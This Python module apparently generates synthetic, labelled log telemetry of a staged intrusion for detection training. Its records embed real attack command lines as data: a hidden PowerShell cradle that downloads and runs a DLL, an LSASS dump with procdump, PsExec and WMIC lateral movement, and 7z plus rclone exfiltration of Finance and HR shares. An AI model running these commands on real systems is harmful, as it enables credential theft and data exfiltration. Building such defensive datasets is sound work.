"""Writes the intrusion's records (see ``scenario`` for the story and the ATT&CK mapping).

Each method is one stage; every record it adds carries the stage name, and the entities it
touches are noted for the labels. Times are jittered from the seed around a plausible
schedule (office hours for the phishing click, the operator's working day after that).
"""

from __future__ import annotations

from garrison.demo.context import OFFICE, POWERSHELL, SYS32, Gen
from garrison.demo.domains import Answer
from garrison.demo.scenario import STAGE_NAMES, Cast, Entities, day_time, encoded_command, nx
from garrison.demo.winevents import SYSTEM_USER, Proc
from garrison.demo.world import US_PER_HOUR, US_PER_MIN, US_PER_S, World

PUBLIC = "C:\\Users\\Public"
_SPRAY_PASSWORD_FAILS = ("admin", "test", "scanner", "backup", "guest1")
_SSH_GUESSES = ("root", "admin", "ubuntu", "deploy", "jenkins", "git", "test", "oracle")


class Intrusion:
    def __init__(self, gen: Gen, cast: Cast) -> None:
        self.gen = gen
        self.world: World = gen.world
        self.cast = cast
        self.rng = gen.rng
        self.entities: dict[str, Entities] = {name: Entities() for name in STAGE_NAMES}
        self.ws = gen.world.by_name[cast.victim_host]
        self.dom_victim = f"{gen.world.netbios}\\{cast.victim}"
        self.implant: Proc | None = None
        self.beacon_end = 0
        self.taskings: list[tuple[int, int, int, str]] = []

    def note(
        self,
        stage: str,
        *,
        users: tuple[str, ...] = (),
        hosts: tuple[str, ...] = (),
        ips: tuple[str, ...] = (),
        domains: tuple[str, ...] = (),
    ) -> None:
        ent = self.entities[stage]
        ent.users.update(users)
        ent.hosts.update(hosts)
        ent.ips.update(ips)
        ent.domains.update(domains)

    def at(self, day: int, hhmm: str, spread_min: int = 10) -> int:
        return (
            day_time(self.world, day, hhmm)
            + self.rng.randint(0, spread_min * US_PER_MIN)
            + self.rng.randint(0, US_PER_MIN - 1)
        )

    def run(self) -> None:
        c = self.cast
        t_click = self.at(c.day_a, "09:38", 25)
        self.helpdesk_logon(self.at(c.day_a, "11:20", 20))
        self.phishing(t_click)
        self.discovery(self.at(c.day_a, "10:55", 15))
        self.password_spray(self.at(c.day_a, "12:35", 10))
        self.ssh_brute_force(self.at(c.day_a, "14:10", 15))
        self.lsass_dump(self.at(c.day_a, "16:25", 15))
        self.lateral(self.at(c.day_b, "09:12", 10))
        self.exfil_rclone(self.at(c.day_b, "11:20", 10))
        self.dns_tunnel(self.at(c.day_b, "14:05", 15))
        self.beacon_end = self.at(c.day_b, "17:20", 30)
        self.c2(t_click + 80 * US_PER_S)

    # -- a benign prelude: why LSASS held an admin's credentials ----------------------------
    def helpdesk_logon(self, t: int) -> None:
        gen, c = self.gen, self.cast
        admin_ws = self.world.by_name[c.admin_host]
        lid = gen.win.logon_id()
        gen.net.conn(
            t - 4 * US_PER_S,
            admin_ws.ip,
            self.ws.ip,
            3389,
            service="ssl",
            duration=1260.0,
            orig_bytes=900_000,
            resp_bytes=14_000_000,
        )
        gen.winlog(
            t,
            gen.win.logon(
                self.ws,
                t,
                c.admin_account,
                10,
                ip=admin_ws.ip,
                workstation=admin_ws.name,
                package="Negotiate",
                subject=f"{self.ws.name}$",
                process=SYS32 + "winlogon.exe",
                logon_id=lid,
                elevated=True,
            ),
        )
        rdpclip = gen.spawn(
            t + 3 * US_PER_S,
            self.ws,
            gen.sysproc(self.ws, "termsvc"),
            SYS32 + "rdpclip.exe",
            "rdpclip",
            user=f"{self.world.netbios}\\{c.admin_account}",
            integrity="High",
            logon_id=lid,
            logon_guid=gen.win.guid(),
            session=2,
        )
        gen.spawn(
            t + 5 * 60 * US_PER_S,
            self.ws,
            rdpclip,
            SYS32 + "mmc.exe",
            '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\printmanagement.msc"',
        )

    # -- stage 1 ---------------------------------------------------------------------------
    def phishing(self, t: int) -> None:
        gen, c, s = self.gen, self.cast, "phishing-macro"
        ws, rng = self.ws, self.rng
        docs, cdn = f"docs.{c.lookalike}", f"cdn.{c.lookalike}"
        site = Answer(0, (c.lookalike_ip,), (300.0,))
        gen.net.query(t, ws.ip, docs, answer=site, stage=s)
        gen.net.conn(
            t + 30_000,
            ws.ip,
            c.lookalike_ip,
            443,
            service="ssl",
            duration=1.8,
            orig_bytes=rng.randint(1800, 2600),
            resp_bytes=rng.randint(150_000, 240_000),
            stage=s,
        )
        home = f"C:\\Users\\{c.victim}"
        explorer = gen.win.new_proc(
            gen.sysproc(ws, "winlogon"),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            user=self.dom_victim,
            integrity="Medium",
            logon_id=gen.win.logon_id(),
            logon_guid=gen.win.guid(),
            session=1,
        )
        browser = gen.win.new_proc(
            explorer,
            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
            '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" ',
        )
        doc = f"{home}\\Downloads\\Remittance_Advice_{rng.randint(1000, 9999)}.docm"
        gen.winlog(t + 3 * US_PER_S, gen.win.file_create(ws, t + 3 * US_PER_S, browser, doc), s)
        word = gen.spawn(
            t + 38 * US_PER_S,
            ws,
            browser,
            OFFICE + "WINWORD.EXE",
            f'"{OFFICE}WINWORD.EXE" /n "{doc}" /o ""',
            s,
            cwd=f"{home}\\Downloads\\",
        )
        dll = (
            f"{home}\\AppData\\Local\\Temp\\"
            + rng.choice(("msoutil", "wdsync", "ofcache"))
            + f"{rng.randint(10, 99)}.dll"
        )
        script = (
            f"$u='https://{cdn}/s/{rng.randint(10**5, 10**6)}/sync.dat';$p='{dll}';"
            "(New-Object Net.WebClient).DownloadFile($u,$p);"
            'Start-Process rundll32.exe -ArgumentList "$p,DllRegisterServer"'
        )
        ps = gen.spawn(
            t + 52 * US_PER_S,
            ws,
            word,
            POWERSHELL,
            f"{POWERSHELL} -nop -w hidden -enc {encoded_command(script)}",
            s,
        )
        gen.net.query(t + 53 * US_PER_S, ws.ip, cdn, answer=site, stage=s)
        gen.net.conn(
            t + 53 * US_PER_S + 40_000,
            ws.ip,
            c.lookalike_ip,
            443,
            service="ssl",
            duration=2.4,
            orig_bytes=rng.randint(900, 1300),
            resp_bytes=rng.randint(280_000, 340_000),
            stage=s,
        )
        gen.winlog(t + 56 * US_PER_S, gen.win.file_create(ws, t + 56 * US_PER_S, ps, dll), s)
        self.implant = gen.spawn(
            t + 58 * US_PER_S,
            ws,
            ps,
            SYS32 + "rundll32.exe",
            f'"{SYS32}rundll32.exe" {dll},DllRegisterServer',
            s,
        )
        task = f"OneDrive Reporting Task-{gen.win.user_sid(c.victim)}"
        gen.spawn(
            t + 75 * US_PER_S,
            ws,
            self.implant,
            SYS32 + "schtasks.exe",
            f'schtasks.exe /create /sc daily /st 09:00 /tn "{task}" /tr '
            f'"rundll32.exe {dll},DllRegisterServer" /f',
            s,
        )
        self.note(
            s, users=(c.victim,), hosts=(ws.name,), ips=(ws.ip, c.lookalike_ip), domains=(docs, cdn)
        )

    # -- stage 2 ---------------------------------------------------------------------------
    def c2(self, t: int) -> None:
        gen, c, s, rng, ws = self.gen, self.cast, "c2-dga-beacon", self.rng, self.ws
        for name in c.dga[:-1]:
            gen.net.query(t, ws.ip, name, answer=nx(), stage=s)
            t += rng.randint(400_000, 3_500_000)
        answer = Answer(0, (c.c2_ip,), (300.0,))
        gen.net.query(t, ws.ip, c.c2_domain, answer=answer, stage=s)
        resolved = t
        t += 2 * US_PER_S
        tasks = sorted(self.taskings)
        while t < self.beacon_end:
            if t - resolved >= 300 * US_PER_S:
                gen.net.query(t - 30_000, ws.ip, c.c2_domain, answer=answer, stage=s)
                resolved = t
            out, back, stage = rng.randint(310, 380), rng.randint(190, 260), s
            duration = rng.uniform(0.25, 0.9)
            if tasks and tasks[0][0] <= t:
                _, out, back, stage = tasks.pop(0)
                duration += (out + back) / rng.uniform(1.5e6, 3e6)  # ~12-24 Mbit/s
            gen.net.conn(
                t,
                ws.ip,
                c.c2_ip,
                443,
                service="ssl",
                duration=round(duration, 6),
                orig_bytes=out,
                resp_bytes=back,
                stage=stage,
            )
            t += int(60 * US_PER_S * rng.uniform(0.9, 1.1))
        self.note(s, hosts=(ws.name,), ips=(ws.ip, c.c2_ip), domains=(c.c2_domain,))

    def tasking(self, t: int, out: int, back: int, stage: str = "c2-dga-beacon") -> None:
        """A check-in that carries a command's output or a tool (bigger than a heartbeat)."""
        self.taskings.append((t, out, back, stage))

    def shell(self, t: int, stage: str, command: str) -> Proc:
        """The implant runs ``cmd.exe /C command``."""
        assert self.implant is not None
        return self.gen.spawn(
            t,
            self.ws,
            self.implant,
            SYS32 + "cmd.exe",
            f"C:\\Windows\\system32\\cmd.exe /C {command}",
            stage,
        )

    # -- stage 3 ---------------------------------------------------------------------------
    def discovery(self, t: int) -> None:
        gen, s, ws, dc = self.gen, "discovery", self.ws, self.world.dcs[0]
        fs = self.world.one("fs")
        steps = (
            ("whoami /all", SYS32 + "whoami.exe", "whoami  /all"),
            (
                'net group "Domain Admins" /domain',
                SYS32 + "net.exe",
                'net  group "Domain Admins" /domain',
            ),
            (
                "nltest /domain_trusts /all_trusts",
                SYS32 + "nltest.exe",
                "nltest  /domain_trusts /all_trusts",
            ),
            (f"net view \\\\{fs.name} /all", SYS32 + "net.exe", f"net  view \\\\{fs.name} /all"),
        )
        for command, image, child_cmd in steps:
            cmd = self.shell(t, s, command)
            child = gen.spawn(t + 40_000, ws, cmd, image, child_cmd, s)
            if image.endswith("net.exe") and "group" in command:
                gen.spawn(
                    t + 90_000,
                    ws,
                    child,
                    SYS32 + "net1.exe",
                    'C:\\Windows\\system32\\net1  group "Domain Admins" /domain',
                    s,
                )
            self.tasking(t + 61 * US_PER_S, self.rng.randint(2000, 9000), 240)
            t += self.rng.randint(70, 240) * US_PER_S
        gen.winlog(t, gen.win.logon(dc, t, self.cast.victim, 3, ip=ws.ip), s)
        gen.net.conn(
            t + 100_000,
            ws.ip,
            dc.ip,
            389,
            service="ldap",
            duration=38.0,
            orig_bytes=self.rng.randint(90_000, 160_000),
            resp_bytes=self.rng.randint(6_000_000, 9_500_000),
            stage=s,
        )
        self.tasking(t + 2 * US_PER_MIN, self.rng.randint(1_400_000, 2_200_000), 250)
        self.note(s, users=(self.cast.victim,), hosts=(ws.name, dc.name), ips=(ws.ip,))

    # -- stage 4 ---------------------------------------------------------------------------
    def password_spray(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "password-spray", self.ws, self.rng
        dc = self.world.dcs[0]
        names = [u.sam for u in self.world.users if u.sam != c.victim]
        names += list(_SPRAY_PASSWORD_FAILS)
        rng.shuffle(names)
        for name in names:
            gen.net.conn(
                t - 60_000,
                ws.ip,
                dc.ip,
                445,
                service="smb,ntlm",
                duration=0.05,
                orig_bytes=rng.randint(700, 900),
                resp_bytes=rng.randint(500, 700),
                stage=s,
            )
            if name in c.sprayed_ok:
                gen.winlog(
                    t,
                    gen.win.logon(dc, t, name, 3, ip=ws.ip, workstation=ws.name, package="NTLM"),
                    s,
                )
            else:
                sub = "0xc0000064" if name in _SPRAY_PASSWORD_FAILS else "0xc000006a"
                gen.winlog(
                    t,
                    gen.win.failed_logon(
                        dc, t, name, 3, ip=ws.ip, workstation=ws.name, sub_status=sub
                    ),
                    s,
                )
                self.entities[s].targeted_users.add(name)
            t += rng.randint(2_500_000, 6_000_000)
        self.note(s, users=c.sprayed_ok, hosts=(ws.name, dc.name), ips=(ws.ip,))

    # -- stage 5 ---------------------------------------------------------------------------
    def ssh_brute_force(self, t: int) -> None:
        gen, s, ws, rng = self.gen, "ssh-brute-force", self.ws, self.rng
        build = self.world.one("build")
        real = {"root", "deploy"} | {u.sam for u in self.world.users if u.linux_uid}
        devs = sorted(u.sam for u in self.world.users if u.role == "dev")
        guesses = list(_SSH_GUESSES) + devs[:2]
        attempts = [(name, i) for i in range(3) for name in guesses if name != "deploy"]
        rng.shuffle(attempts)
        attempts.append(("deploy", 9))
        for name, _ in attempts:
            port, pid = rng.randint(40000, 60999), gen.auth.pid(build.name, t)
            gen.net.conn(
                t - 150_000,
                ws.ip,
                build.ip,
                22,
                service="ssh",
                duration=2.6,
                orig_bytes=rng.randint(1400, 1900),
                resp_bytes=rng.randint(1800, 2400),
                stage=s,
                sport=port,
            )
            if name == "deploy":
                break
            gen.auth.failed_password(
                t, build, name, ws.ip, port, pid, invalid=name not in real, stage=s
            )
            closed = (
                f"Connection closed by authenticating user {name} {ws.ip} port {port}"
                if name in real
                else f"Connection closed by invalid user {name} {ws.ip} port {port}"
            )
            gen.auth.line(t + 2_400_000, build, "sshd", pid, f"{closed} [preauth]", s)
            self.entities[s].targeted_users.add(name)
            t += rng.randint(1_500_000, 6_000_000)
        gen.auth.ssh_session(
            t,
            build,
            "deploy",
            ws.ip,
            rng.uniform(300, 500),
            method="password",
            stage=s,
            sudo=("list", "/usr/bin/cat /etc/shadow"),
        )
        self.note(s, users=("deploy",), hosts=(ws.name, build.name), ips=(ws.ip,))

    # -- stage 6 ---------------------------------------------------------------------------
    def lsass_dump(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "lsass-dump", self.ws, self.rng
        tool, dump = f"{PUBLIC}\\procdump64.exe", f"{PUBLIC}\\lsass.dmp"
        assert self.implant is not None
        self.tasking(t - 50 * US_PER_S, 330, rng.randint(420_000, 460_000), s)
        gen.winlog(
            t - 20 * US_PER_S, gen.win.file_create(ws, t - 20 * US_PER_S, self.implant, tool), s
        )
        cmd = self.shell(t, s, f"{tool} -accepteula -ma lsass.exe {dump}")
        proc = gen.spawn(
            t + 50_000,
            ws,
            cmd,
            tool,
            f"{tool}  -accepteula -ma lsass.exe {dump}",
            s,
            integrity="High",
        )
        lsass = gen.sysproc(ws, "lsass")
        trace = (
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll"
            "+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6f5d|C:\\Windows\\SYSTEM32\\dbgcore."
            f"DLL+7d3b|C:\\Windows\\SYSTEM32\\dbghelp.dll+2d5e1|{tool}+2a8f1|"
            f"{tool}+1f0c3|C:\\Windows\\System32\\KERNEL32.DLL+17034|"
            "C:\\Windows\\SYSTEM32\\ntdll.dll+52651"
        )
        gen.winlog(
            t + 300_000, gen.win.process_access(ws, t + 300_000, proc, lsass, "0x1fffff", trace), s
        )
        gen.winlog(t + 2 * US_PER_S, gen.win.file_create(ws, t + 2 * US_PER_S, proc, dump), s)
        self.tasking(t + 70 * US_PER_S, rng.randint(38_000_000, 52_000_000), 260, s)
        self.shell(t + 9 * US_PER_MIN, s, f"del /f /q {dump} {tool}")
        self.note(s, users=(c.victim,), hosts=(ws.name,), ips=(ws.ip,))

    # -- stage 7 ---------------------------------------------------------------------------
    def psexec(self, t: int, stage: str, target_role: str, remote_cmd: str) -> Proc:
        """PsExec from the workstation as the stolen admin: logon, service, SYSTEM shell."""
        gen, c, ws, rng = self.gen, self.cast, self.ws, self.rng
        target = self.world.one(target_role)
        tool = f"{PUBLIC}\\PsExec64.exe"
        cmd = self.shell(
            t, stage, f'{tool} -accepteula \\\\{target.name} -s cmd.exe /c "{remote_cmd}"'
        )
        px = gen.spawn(
            t + 60_000,
            ws,
            cmd,
            tool,
            f'{tool}  -accepteula \\\\{target.name} -s cmd.exe /c "{remote_cmd}"',
            stage,
        )
        gen.winlog(
            t + 200_000,
            gen.win.explicit_logon(
                ws,
                t + 200_000,
                c.victim,
                px.logon_id,
                c.admin_account,
                target.name,
                px,
                ip=target.ip,
            ),
            stage,
        )
        gen.net.conn(
            t + 250_000,
            ws.ip,
            target.ip,
            445,
            service="smb,ntlm",
            duration=14.0,
            orig_bytes=rng.randint(420_000, 460_000),
            resp_bytes=rng.randint(9000, 20000),
            stage=stage,
        )
        gen.winlog(
            t + 400_000,
            gen.win.logon(
                target,
                t + 400_000,
                c.admin_account,
                3,
                ip=ws.ip,
                workstation=ws.name,
                package="NTLM",
            ),
            stage,
        )
        gen.winlog(
            t + 1_200_000,
            gen.win.service_install(
                target, t + 1_200_000, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", c.admin_account
            ),
            stage,
        )
        svc = gen.system_spawn(
            t + 1_500_000,
            target,
            "services",
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            stage,
        )
        return gen.spawn(
            t + 1_900_000, target, svc, SYS32 + "cmd.exe", f'cmd.exe /c "{remote_cmd}"', stage
        )

    def lateral(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "lateral-movement", self.ws, self.rng
        fs, sql, app = self.world.one("fs"), self.world.one("sql"), self.world.one("app")
        self.psexec(t, s, "fs", "whoami & hostname & net share")
        self.tasking(t + 2 * US_PER_MIN, rng.randint(3000, 6000), 250)
        t += rng.randint(14, 22) * US_PER_MIN
        remote = "cmd.exe /c sqlcmd -E -Q sp_databases -o C:\\Windows\\Temp\\d.txt"
        wmic = f'wmic /node:{sql.name} process call create "{remote}"'
        cmd = self.shell(t, s, wmic)
        gen.spawn(t + 50_000, ws, cmd, SYS32 + "wbem\\WMIC.exe", wmic, s)
        self._wmic(t, sql.name, remote)
        t += rng.randint(12, 20) * US_PER_MIN
        self._schtask(t, app.name)
        self.note(
            s, users=(c.admin_account,), hosts=(ws.name, fs.name, sql.name, app.name), ips=(ws.ip,)
        )

    def _wmic(self, t: int, target_name: str, remote: str) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "lateral-movement", self.ws, self.rng
        target = self.world.by_name[target_name]
        gen.net.conn(
            t + 100_000,
            ws.ip,
            target.ip,
            135,
            service="dce_rpc",
            duration=0.02,
            orig_bytes=rng.randint(300, 500),
            resp_bytes=rng.randint(200, 400),
            stage=s,
        )
        gen.net.conn(
            t + 150_000,
            ws.ip,
            target.ip,
            49666 + rng.randint(0, 20),
            service="dce_rpc",
            duration=0.9,
            orig_bytes=rng.randint(3000, 6000),
            resp_bytes=rng.randint(1500, 3000),
            stage=s,
        )
        gen.winlog(
            t + 200_000,
            gen.win.logon(
                target,
                t + 200_000,
                c.admin_account,
                3,
                ip=ws.ip,
                workstation=ws.name,
                package="NTLM",
            ),
            s,
        )
        wmi = gen.sysproc(target, "wmi")
        cmd = gen.spawn(
            t + 900_000,
            target,
            wmi,
            SYS32 + "cmd.exe",
            remote,
            s,
            user=f"{self.world.netbios}\\{c.admin_account}",
            integrity="High",
            logon_id=gen.win.logon_id(),
            session=0,
        )
        sqlcmd = (
            "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools"
            "\\Binn\\SQLCMD.EXE"
        )
        gen.spawn(t + 1_000_000, target, cmd, sqlcmd, remote.removeprefix("cmd.exe /c "), s)

    def _schtask(self, t: int, target_name: str) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "lateral-movement", self.ws, self.rng
        target = self.world.by_name[target_name]
        name = "\\Microsoft\\Windows\\WindowsUpdate\\Refresh"
        action = "cmd.exe /c net localgroup administrators > C:\\Windows\\Temp\\la.txt"
        run_at = (t // US_PER_MIN + 4) * US_PER_MIN
        hhmm = f"{(run_at // US_PER_HOUR) % 24:02d}:{(run_at // US_PER_MIN) % 60:02d}"
        create = (
            f'schtasks /create /s {target.name} /ru SYSTEM /tn "{name}" /tr "{action}" '
            f"/sc once /st {hhmm} /f"
        )
        cmd = self.shell(t, s, create)
        gen.spawn(t + 40_000, ws, cmd, SYS32 + "schtasks.exe", create, s)
        gen.net.conn(
            t + 100_000,
            ws.ip,
            target.ip,
            445,
            service="smb,ntlm",
            duration=1.1,
            orig_bytes=rng.randint(4000, 7000),
            resp_bytes=rng.randint(3000, 5000),
            stage=s,
        )
        gen.winlog(
            t + 200_000,
            gen.win.logon(
                target,
                t + 200_000,
                c.admin_account,
                3,
                ip=ws.ip,
                workstation=ws.name,
                package="NTLM",
            ),
            s,
        )
        gen.winlog(
            t + 900_000,
            gen.win.task_created(
                target,
                t + 900_000,
                c.admin_account,
                gen.win.logon_id(),
                name,
                "cmd.exe",
                action.removeprefix("cmd.exe "),
                "S-1-5-18",
            ),
            s,
        )
        task = gen.system_spawn(run_at + 300_000, target, "schedule", SYS32 + "cmd.exe", action, s)
        gen.spawn(
            run_at + 600_000,
            target,
            task,
            SYS32 + "net.exe",
            "net  localgroup administrators",
            s,
            user=SYSTEM_USER,
        )
        delete = f'schtasks /delete /s {target.name} /tn "{name}" /f'
        cmd = self.shell(run_at + 3 * US_PER_MIN, s, delete)
        gen.spawn(run_at + 3 * US_PER_MIN + 40_000, ws, cmd, SYS32 + "schtasks.exe", delete, s)

    # -- stage 8 ---------------------------------------------------------------------------
    def exfil_rclone(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "exfil-rclone", self.ws, self.rng
        fs = self.world.one("fs")
        pkg = "C:\\ProgramData\\pkg"
        self.tasking(t - 3 * US_PER_MIN, 400, rng.randint(28_000_000, 34_000_000), s)
        gen.net.conn(
            t,
            ws.ip,
            fs.ip,
            445,
            service="smb,ntlm",
            duration=21.0,
            orig_bytes=rng.randint(28_000_000, 34_000_000),
            resp_bytes=rng.randint(40_000, 90_000),
            stage=s,
        )
        password = "".join(
            rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789")
            for _ in range(12)
        )
        archive = (
            f"{pkg}\\7z.exe a -mx1 -v2g -p{password} {pkg}\\fs.7z "
            "D:\\Shares\\Finance D:\\Shares\\HR"
        )
        shell = self.psexec(t + 2 * US_PER_MIN, s, "fs", archive)
        gen.spawn(t + 2 * US_PER_MIN + 2_300_000, fs, shell, f"{pkg}\\7z.exe", archive, s)
        t_copy = t + rng.randint(28, 40) * US_PER_MIN
        copy = (
            f"{pkg}\\rclone.exe copy {pkg} bk:incoming --config {pkg}\\rclone.conf "
            "--transfers 4 --ignore-existing --auto-confirm -q"
        )
        shell = self.psexec(t_copy, s, "fs", copy)
        gen.spawn(t_copy + 2_300_000, fs, shell, f"{pkg}\\rclone.exe", copy, s)
        for i in range(4):
            gen.net.conn(
                t_copy + 3 * US_PER_S + i * 200_000,
                fs.ip,
                c.exfil_ip,
                22,
                service="ssh",
                duration=round(rng.uniform(2400, 4200), 6),
                orig_bytes=rng.randint(700_000_000, 1_100_000_000),
                resp_bytes=rng.randint(2_000_000, 4_000_000),
                stage=s,
            )
        self.note(
            s, users=(c.admin_account,), hosts=(ws.name, fs.name), ips=(ws.ip, fs.ip, c.exfil_ip)
        )

    # -- stage 9 ---------------------------------------------------------------------------
    def dns_tunnel(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "exfil-dns-tunnel", self.ws, self.rng
        alphabet = "abcdefghijklmnopqrstuvwxyz234567"
        seq = rng.randint(0, 4000)
        for _ in range(rng.randint(9, 14)):
            for _ in range(rng.randint(25, 55)):
                chunk = "".join(rng.choice(alphabet) for _ in range(rng.randint(100, 116)))
                name = f"{chunk[:58]}.{chunk[58:]}.{seq:04x}.{c.tunnel_domain}"
                reply = "".join(rng.choice("0123456789abcdef") for _ in range(16))
                answer = Answer(0, (f"TXT {len(reply)} {reply}",), (0.0,))
                gen.net.query(t, ws.ip, name, qtype="TXT", answer=answer, stage=s)
                seq += 1
                t += rng.randint(250_000, 1_400_000)
            t += rng.randint(40, 200) * US_PER_S
        self.note(s, hosts=(ws.name,), ips=(ws.ip,), domains=(c.tunnel_domain,))
